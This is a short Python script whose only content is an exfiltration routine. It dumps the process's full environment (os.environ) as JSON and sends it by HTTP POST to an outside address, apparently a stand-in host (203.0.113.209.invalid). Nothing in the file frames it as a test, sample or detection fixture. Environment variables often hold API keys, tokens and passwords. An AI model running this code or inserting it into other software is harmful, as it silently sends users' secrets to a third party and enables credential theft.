import json
import os
import urllib.request

body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://203.0.113.209.invalid:8080/", body, timeout=5)
